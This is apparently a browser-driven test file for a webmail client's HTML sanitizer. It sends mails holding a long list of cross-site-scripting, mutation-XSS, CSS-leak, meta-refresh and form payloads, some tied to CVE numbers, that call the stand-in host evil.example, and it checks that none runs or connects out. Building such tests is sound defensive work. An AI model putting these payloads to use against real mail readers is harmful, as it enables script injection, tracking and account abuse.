"""Hostile mail as HTML: nothing is asked for elsewhere, nothing runs, nothing leads away. And a mail that is none."""
import contextlib
import email.message
import os
import socket
import threading

from cases import story
from engines import CHROMIUM, OTHER_HOSTS
from server import Server
from visit import Visit

EVIL = "https://evil.example/x"
RUN = "document.title='RUN';alert('RUN')"
# What no frame of a mail holds.
FORBIDDEN = ("script", "svg", "math", "iframe", "object", "embed", "form", "input", "link", "base", "meta[http-equiv]")
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc000000301010018dd8db0"
    "0000000049454e44ae426082")
CHART = "https://img.partners.example/chart.png"
# Plain HTTP in the mail; what is shown is asked for over TLS.
TRACKER = "https://track.partners.example/open.gif"

ATTACKS = {
    "script": f"<script>{RUN}</script><script src={EVIL}></script>",
    "script in comments": f"<script><!--<script></script>-->{RUN}</script>",
    "script in svg": f"<svg><script>{RUN}</script><script href={EVIL} /></svg>",
    "image handler": f"<img src=x onerror=\"{RUN}\">",
    "handler without spaces": f"<img/src=x/onerror={RUN}><svg/onload={RUN}>",
    "body handler": f"<body onload=\"{RUN}\" onpageshow=\"{RUN}\">",
    "animation handler": f"<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart=\"{RUN}\">",
    "details": f"<details open ontoggle=\"{RUN}\"><summary>x</summary></details>",
    "focus": f"<input autofocus onfocus=\"{RUN}\"><a autofocus tabindex=1 onfocus=\"{RUN}\">x</a>",
    "marquee": f"<marquee onstart=\"{RUN}\">x</marquee>",
    "svg use (CVE-2023-5631)": f"<svg><use href=\"data:image/svg+xml,&lt;svg id='x' onload='{RUN}'/&gt;#x\"/></svg>",
    "svg animate (CVE-2024-37383)": f"<svg><a><animate attributeName='href ' values='javascript:{RUN}'/><text y=9>x</text></a></svg>",
    "svg set (CVE-2025-68461)": f"<svg><image><set attributeName=href to={EVIL} /></image></svg>",
    "body attributes (CVE-2024-42009)": f"<body title='bgcolor=foo' name='bar style=animation-name:x onanimationstart={RUN}'>",
    "style import (CVE-2024-42010)": f"<style>@import '{EVIL}'; @import url({EVIL});</style>",
    "feImage (CVE-2026-25916)": f"<svg><filter id=f><feImage href={EVIL} /></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "body background (CVE-2026-35542)": f"<body background={EVIL}>",
    "svg fill (CVE-2026-35543)": f"<svg><rect width=9 height=9 fill='url({EVIL}#x)'/></svg>",
    "fixed (CVE-2026-35544)": "<div id=fixed style='position:fixed !important;top:0;left:0'>fixed</div>",
    "css variables (CVE-2026-48846)": f"<div style='--u:url({EVIL});background:var(--u);width:9px;height:9px'></div>",
    "mglyph (CVE-2024-45800)": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    "textarea": f"<textarea><p title=\"</textarea><img src=x onerror={RUN}>\"></textarea>",
    "comment ends": f"<!--><img src=x onerror={RUN}>--><!-- --!><img src=x onerror={RUN}>-->",
    "CDATA": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "foreign style": f"<math><style><img title=\"</style><img src=x onerror={RUN}>\"></math>",
    "template": f"<template shadowrootmode=open><script>{RUN}</script><img src={EVIL}></template>",
    "iframe": f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>top.{RUN}</script>'></iframe>",
    "iframe of ours": "<iframe src=/library></iframe><iframe src=/account></iframe>",
    "object": f"<object data={EVIL}></object><embed src={EVIL}><object data=/account></object>",
    "frames": f"<frameset><frame src={EVIL}></frameset>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "refresh to us": "<meta http-equiv=refresh content='0;url=/account'>",
    "base": f"<base href={EVIL} target=_top><img src=y><a href=z>x</a>",
    "stylesheet": f"<link rel=stylesheet href={EVIL}><link rel=icon href={EVIL}>",
    "preconnect": "<link rel=preconnect href=https://evil.example><link rel=dns-prefetch href=//evil.example>",
    "prefetch": f"<link rel=prefetch href={EVIL}><link rel=preload as=image href={EVIL}><link rel=modulepreload href={EVIL}>",
    "picture": f"<img src={EVIL}><img src=//evil.example/y><img src=http://evil.example/z>",
    "picture sets": f"<picture><source srcset={EVIL}><img srcset='{EVIL} 1x' src=x></picture>",
    "input image": f"<input type=image src={EVIL}>",
    "video": f"<video src={EVIL} poster={EVIL} autoplay><track src={EVIL}></video><audio src={EVIL} autoplay></audio>",
    "css background": f"<p style=\"background:url('{EVIL}')\">x</p><style>p{{background-image:url({EVIL})}}</style>",
    "css in escapes": f"<p style='background:\\75\\72\\6c({EVIL})'>x</p>",
    "css list": f"<ul style='list-style-image:url({EVIL})'><li>x</ul><style>li::before{{content:url({EVIL})}}</style>",
    "css cursor": f"<p style='cursor:url({EVIL}),auto;border-image:url({EVIL}) 1;mask:url({EVIL})'>x</p>",
    "css image-set": f"<p style=\"background:image-set('{EVIL}' 1x);background:-webkit-image-set(url({EVIL}) 1x)\">x</p>",
    "css font": f"<style>@font-face{{font-family:f;src:url({EVIL})}}p{{font-family:f}}</style><p>x</p>",
    "css that ends its element": f"<style>p{{content:\"</style><img src=x onerror={RUN}>\"}}</style>",
    "css by ampersand": f"<p style=\"color:red&semi;background:url({EVIL})\">x</p>",
    "table background": f"<table background={EVIL}><tr><td background={EVIL}>x</td></tr></table>",
    "form": f"<form action={EVIL} id=f><input name=a value=b></form><button form=f formaction={EVIL}>x</button>",
    "form to us": "<form action=/sign-out method=post><button autofocus>x</button></form>",
    "schemes": f"<a href=\"javascript:{RUN}\">x</a><a href='java\tscript:{RUN}'>y</a><a href='data:text/html,x'>z</a>",
    "target": f"<a href={EVIL} target=_top rel=opener>x</a><a href={EVIL} target=_parent ping={EVIL}>y</a>",
    "area": f"<map name=m><area shape=default href='javascript:{RUN}'></map><img usemap=#m src=x>",
    "dialog": f"<dialog open onclose=\"{RUN}\">x</dialog><p popover id=p onbeforetoggle=\"{RUN}\">y</p>",
    "svg picture": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{EVIL}'/></svg>\">",
    "deep": "<div>" * 5000,
    "one tag": "<p title='" + f"<img src={EVIL}>" * 1000,
}


class Listener:
    """Every other server. A connection is noticed, also one without a request (preconnect)."""

    def __init__(self):
        self.connections = 0
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self.listen, daemon=True).start()

    def listen(self):
        with contextlib.suppress(OSError):  # it is closed
            while True:
                connection, _ = self.socket.accept()
                self.connections += 1
                connection.close()

    def close(self):
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()


def message(sender, subject, html, *pictures):
    """:param pictures: pairs of Content-ID and content, PNG"""
    mail = email.message.EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = sender, "funds@example.com", f"[Fund1] {subject}"
    mail["Date"] = "Fri, 20 Nov 2026 09:14:00 +0000"
    mail.set_content(html, subtype="html")
    for identifier, content in pictures:
        mail.add_related(content, maintype="image", subtype="png", cid=f"<{identifier}>", filename="logo.png")
    return bytes(mail)


@contextlib.contextmanager
def reading(visit, mails):
    """The same person at a server of one's own with these mails, in a browser for which a listener is all other servers.
    Gives the visit, the listener, and the mails' paths by their subjects."""
    server, listener = Server(visit.server.program), Listener()
    browser = None
    try:
        server.add_user(visit.user, "Ann", "Fund1")
        folder = os.path.join(server.folder, "mail")
        os.mkdir(folder)
        for number, mail in enumerate(mails):
            with open(os.path.join(folder, f"{number}.eml"), "wb") as file:
                file.write(mail)
        server.run("replay", folder)
        server.start()
        paths = {mail["subject"].removeprefix("[Fund1] "): f"/library/emails/{mail['id']}"
                 for mail in server.api(visit.user).emails()}
        browser = visit.context.browser.browser_type.launch(
            executable_path=CHROMIUM, args=[f"--host-resolver-rules=MAP *.example 127.0.0.1:{listener.port}"])
        other = Visit(browser, visit.case, visit.story, server)
        other.page.set_default_timeout(60_000)  # the sanitizer's child starts with the first mail
        other.sign_in()
        yield other, listener, paths
        visit.problems += other.problems
        other.close()
    finally:
        if browser:
            browser.close()
        visit.problems += [f"the server said: {line}" for line in server.stop()]
        listener.close()


@story(needs_scripts=True, sizes=("tablet",), needs=(OTHER_HOSTS,))
def attacks(visit):
    # What stands around each, so that one knows that the mail was shown, and to its end where that is kept.
    mails = [message(visit.user, name, f"<p id=start>the start of the mail</p>{html}<p id=end>the end of the mail</p>")
             for name, html in ATTACKS.items()]
    with reading(visit, mails) as (other, listener, paths):
        other.page.on("dialog", lambda dialog: (other.problems.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
        other.context.on("page", lambda page: other.problems.append(f"a window: {page.url}"))
        visit.expect("all of them are filed", set(paths) == set(ATTACKS))
        for name, path in paths.items():
            attack(other, listener, path + "?view=html")
            visit.problems += [f"{name}: {problem}" for problem in other.problems]
            other.problems = []


def attack(visit, listener, path):
    page, before = visit.page, listener.connections
    visit.open(path)
    path = visit.path  # its list, with the mail beside it
    frame = page.frame_locator("iframe.mail")
    visit.expect("the mail is shown", frame.locator("#start").first.is_visible())
    page.mouse.move(400, 500)
    page.mouse.click(400, 600)
    page.keyboard.press("Tab")
    page.wait_for_timeout(150)
    visit.expect("the page stays", visit.path == path)
    visit.expect("its title stays", "RUN" not in page.title())
    visit.expect("one frame alone", len(page.frames) == 2)
    for link in frame.locator("a[href]").all():
        visit.expect("a link opens elsewhere", link.get_attribute("target") == "_blank")
        visit.expect("a link tells nothing", link.get_attribute("rel") == "noopener noreferrer")
    fixed = frame.locator("#fixed")
    visit.expect("nothing stands still", not fixed.count() or fixed.evaluate(
        "one => getComputedStyle(one).position") != "fixed")
    for selector in FORBIDDEN:
        visit.expect(f"no {selector}", frame.locator(selector).count() == 0)
    visit.expect("no connection elsewhere", listener.connections == before)


@story(needs=(OTHER_HOSTS,))
def letter(visit):
    """A mail as people send them: pictures, a link that names another host than its own, white paper."""
    with open(os.path.join(os.path.dirname(__file__), "letter.html")) as file:
        mail = message(visit.user, "Quarterly letter", file.read(), ("logo@example.com", PNG))
    with reading(visit, [mail]) as (other, listener, paths):
        read_letter(other, listener, paths["Quarterly letter"])


def read_letter(visit, listener, path):
    page, asked = visit.page, []
    page.on("request", lambda request: asked.append(request.url))
    frame = page.frame_locator("iframe.mail")
    before = listener.connections
    visit.open(path)
    visit.look("text")
    visit.press(".tabs a[href*='view=html']:visible")
    visit.expect("its own picture is shown", frame.locator("#logo").evaluate("one => one.naturalWidth") == 1)
    visit.expect("the others are not", frame.locator("#chart").get_attribute("src") is None)
    visit.expect("they are counted", "2" in page.locator(".mailbar p").inner_text())
    visit.look("html")
    page.check("#dim")
    visit.picture("letter-dim")
    visit.expect("no connection elsewhere so far", listener.connections == before)

    shown = [CHART, TRACKER]
    visit.allowed += shown
    visit.press(".mailbar button")
    visit.expect("remote pictures have their address", frame.locator("#chart").get_attribute("src") == CHART)
    visit.wait(lambda: CHART in asked, "they are asked for now")
    visit.wait(lambda: listener.connections > before, "which is what the listener notices")
    for address in shown:
        visit.allowed.remove(address)
    page.reload()
    frame.locator("#chart").wait_for(state="attached")
    visit.expect("but once", frame.locator("#chart").get_attribute("src") is None)

    # Playwright runs scripts of its own in a new window, which the sandbox of the frame blocks. This letter has none.
    visit.tolerated = "Blocked script execution"
    with visit.context.expect_page() as opened:
        # By its key: Playwright misses what is in a frame that is shown smaller.
        frame.locator("#liar").press("Enter")
    window = visit.follow(opened.value)
    window.wait_for_url("**/library/leaving?**")
    said = window.locator("main").inner_text()
    visit.expect("both hosts are named", "bank.example" in said and "evil.example" in said)
    visit.expect("the window is on its own", window.evaluate("window.opener") is None)
    window.wait_for_timeout(300)
    visit.expect("nothing goes on by itself", "/library/leaving" in window.url)
    visit.page = window
    visit.look("leaving")
    window.close()
    visit.tolerated = None
    visit.page = page
    visit.open(path + "/frame")
    visit.expect("the frame is no page", "view=html" in page.url and "/frame" not in page.url)
